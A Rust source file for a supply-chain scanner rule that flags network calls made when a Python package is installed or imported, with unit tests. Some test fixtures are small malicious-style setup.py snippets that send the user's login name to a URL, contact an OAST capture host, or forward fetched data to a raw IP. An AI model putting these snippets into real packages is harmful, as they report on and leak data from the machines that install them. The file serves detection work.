use super::vocab;
use crate::declare_rule;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Flags network access from code that runs at install time (`setup.py`,
    /// build hooks, `.pth` files) or at import time (module top level).
    ///
    /// ## Why is this bad?
    /// Installing or importing a library should not talk to the internet:
    /// that is how probes report in and droppers fetch their second stage.
    /// pip can fetch build dependencies itself; `setup.py` does not need to.
    ///
    /// ## Example
    /// ```python
    /// requests.get("https://x.example/stage2")           # Error in setup.py
    /// def fetch(): return requests.get(url)             # No error: runs only when called
    /// ```
    ///
    /// ## False positives
    /// Old `setup.py` files that download a native library at build time:
    /// a fetch over https from a named host, or from a URL the build computes,
    /// with nothing about the machine in the request, is `medium` (what runs the
    /// download is download-execute's business); plain http, an untrusted host
    /// or query data guard cannot read stay `high` (`review`). Import-time
    /// version checks are `medium`, and so are sends on import to an address
    /// that is configuration rather than a literal.
    InstallNetwork, id = "install-network", severity = High,
    summary = "network access at install time (setup.py, .pth) or on import"
}

impl Rule for InstallNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let mut calls = unit.code.calls.iter().filter(|c| {
                matches!(c.stage, Stage::Install | Stage::Import)
                    && vocab::is_network(&c.name)
                    && !c.name.ends_with("Session")
            });
            // The first request that leaves the machine, else the first one.
            let Some(call) = calls.clone().find(|c| !loopback_only(c)).or_else(|| calls.next()) else {
                continue;
            };
            let mut severity = if call.stage == Stage::Install {
                Severity::High
            } else {
                Severity::Medium
            };
            // Fetching from a paste site, tunnel, capture service or raw IP is worse.
            // (A public-IP lookup on import is reconnaissance too.)
            let shady = call.arg_strs.iter().find_map(|a| vocab::endpoint_kind(a));
            // Sending (not fetching) on import: something is being reported somewhere.
            let sends = vocab::is_send(&call.name);
            // A send on import to an address the code spells out: something reports in.
            // One whose address is configuration (`f"{self.base_url}/x"`, a socket
            // handed in) is a client doing its job once it is called; what it sends
            // is the exfiltration rule's business (issue 11).
            let literal_endpoint = call.arg_strs.iter().any(|a| {
                a.split_once("://")
                    .is_some_and(|(_, rest)| !rest.is_empty() && !vocab::host_unknown(rest))
            });
            if shady.is_some() || (sends && call.stage == Stage::Import && literal_endpoint) {
                severity = severity.raise();
            }
            // A build fetching its inputs (a native library, a data file) over https from a
            // named host, with nothing about the machine in the request: worth a note, not a stop.
            let https_named = call.arg_strs.iter().any(|a| {
                let Some(rest) = a.strip_prefix("https://") else {
                    return false;
                };
                let query_unknown = rest.split_once('?').is_some_and(|(_, q)| q.contains("{}"));
                vocab::untrusted_host(a).is_none() && !query_unknown && !vocab::host_unknown(rest)
            });
            // The same fetch with a URL the build computes (`urlretrieve(url, dest)` in a
            // download helper): what it fetches is unknown, but nothing leaves the machine
            // and nothing here runs it (download-execute reports a launch).
            // Only where the install code reads nothing about the machine (a request
            // helper fed `getpass.getuser()` elsewhere is a probe) and names no
            // untrusted endpoint the URL could be (an OAST host in a variable).
            let computed =
                !call.arg_strs.iter().any(|a| a.contains("://"))
                    && !unit.code.calls.iter().any(|c| {
                        c.stage == Stage::Install && vocab::is_host_identity(&c.name) && c.name != "os.getcwd"
                    })
                    && !unit.code.strings.iter().any(|l| {
                        l.value.contains("://")
                            && (vocab::endpoint_kind(&l.value).is_some() || vocab::untrusted_host(&l.value).is_some())
                    });
            if call.stage == Stage::Install
                && (https_named || computed)
                && !sends
                && shady.is_none()
                && !call
                    .arg_refs
                    .iter()
                    .any(|r| vocab::is_host_identity(r) || r.starts_with("os.environ"))
            {
                severity = Severity::Medium;
            }
            // A request to this machine (`http://127.0.0.1:8000`, a local dev server or
            // a test client) carries nothing off it.
            if loopback_only(call) {
                severity = Severity::Low;
            }
            let target = call
                .arg_strs
                .iter()
                .find(|s| s.contains("://"))
                .map(|s| format!(" ({s})"))
                .unwrap_or_default();
            let message = format!("calls {}(){target} {}", call.name, call.stage.describe());
            out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
        }
    }
}

/// Every URL the call names is on the loopback interface (and it names one).
fn loopback_only(call: &crate::inspect::python::Call) -> bool {
    let mut urls = call.arg_strs.iter().filter_map(|a| a.split_once("://")).peekable();
    urls.peek().is_some()
        && urls.all(|(_, rest)| {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
            let host = authority.rsplit('@').next().unwrap_or("");
            let host = if host.starts_with('[') {
                host.split(']').next().unwrap_or("").trim_start_matches('[')
            } else {
                host.split(':').next().unwrap_or("")
            };
            host.eq_ignore_ascii_case("localhost") || host.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback())
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::{check, setup_py};

    #[test]
    fn a_request_to_this_machine_is_a_note() {
        // No error (held-out pop-f): a client script posting to a local server on import.
        for url in ["http://127.0.0.1:8000", "http://localhost/x", "http://[::1]:5000/"] {
            let src = format!("import requests\nr = requests.post('{url}', data=b'x')\n");
            let f = check(&InstallNetwork, Kind::Wheel, &[("pkg/client.py", &src)]);
            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Low), "{url}: {f:?}");
        }
        // Error: a local fetch, then a request elsewhere.
        let src = "import requests\nr = requests.get('http://127.0.0.1/x').text\nrequests.get('http://198.51.100.7:1338/?q=' + r)\n";
        let f = setup_py(&InstallNetwork, src);
        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
        // Error: the same post to a host elsewhere; a loopback name as a user part.
        for url in ["http://198.51.100.7:8000", "http://localhost@198.51.100.7/"] {
            let src = format!("import requests\nr = requests.post('{url}', data=b'x')\n");
            let f = check(&InstallNetwork, Kind::Wheel, &[("pkg/client.py", &src)]);
            assert!(f.iter().any(|f| f.severity >= Severity::High), "{url}: {f:?}");
        }
    }

    #[test]
    fn fires_on() {
        let f = setup_py(&InstallNetwork, "import requests\nrequests.get('http://x.example/p')\n");
        assert_eq!((f.len(), f[0].severity), (1, Severity::High));
        let f = setup_py(
            &InstallNetwork,
            "from urllib.request import urlopen\nclass I:\n    def run(self):\n        urlopen('http://x')\n",
        );
        assert_eq!(f.len(), 1, "setup.py methods run at install too");
        let f = check(
            &InstallNetwork,
            Kind::Wheel,
            &[(
                "pkg/__init__.py",
                "import socket\ns = socket.socket()\ns.connect(('x', 1))\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium));
        let f = check(
            &InstallNetwork,
            Kind::Wheel,
            &[(
                "pkg/__init__.py",
                "import requests\nrequests.post('https://x.example/c', data='1')\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "a send on import");
        // A client sending to the address it was configured with, reached on import
        // (an SDK flushing at exit): what it sends is the exfiltration rule's business.
        let f = check(
            &InstallNetwork,
            Kind::Wheel,
            &[(
                "pkg/__init__.py",
                "import requests, atexit\ndef flush():\n    requests.post(f'{STATE.url}/v1/events', json=QUEUE)\natexit.register(flush)\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // A download helper of the build with a computed URL: medium.
        let f = setup_py(
            &InstallNetwork,
            "import urllib.request\ndef fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\nfetch(mirror() + name, 'lib.tgz')\n",
        );
        assert_eq!(f[0].severity, Severity::Medium, "{f:?}");
        // …but not in install code that reads who the user is, or names a capture service.
        let f = setup_py(
            &InstallNetwork,
            "import urllib.request, getpass\ndef fetch(url, data):\n    urllib.request.urlopen(url, data)\nfetch(U, getpass.getuser())\n",
        );
        assert_eq!(f[0].severity, Severity::High, "{f:?}");
        let f = setup_py(
            &InstallNetwork,
            "import urllib.request\nU = 'https://x1y2.oast.fun'\ndef fetch(url):\n    urllib.request.urlopen(url)\nfetch(U + '/p')\n",
        );
        assert!(f[0].severity >= Severity::High, "{f:?}");
        // Build inputs fetched over https from a named host: medium; with unknown query data: high.
        let f = setup_py(
            &InstallNetwork,
            "import urllib.request
urllib.request.urlopen(f'https://example.org/lib-{V}.tar.gz')
",
        );
        assert_eq!(f[0].severity, Severity::Medium, "{f:?}");
        let f = setup_py(
            &InstallNetwork,
            "import urllib.request, os
urllib.request.urlopen(f'https://example.org/c?u={os.getlogin()}')
",
        );
        assert_eq!(f[0].severity, Severity::High, "{f:?}");
    }

    #[test]
    fn quiet_on() {
        assert!(check(
            &InstallNetwork,
            Kind::Wheel,
            &[(
                "pkg/api.py",
                "import requests\ndef get(u):\n    return requests.get(u)\n"
            )]
        )
        .is_empty());
        assert!(setup_py(
            &InstallNetwork,
            "from setuptools import setup\nsetup(name='x', install_requires=['requests'])\n"
        )
        .is_empty());
    }
}
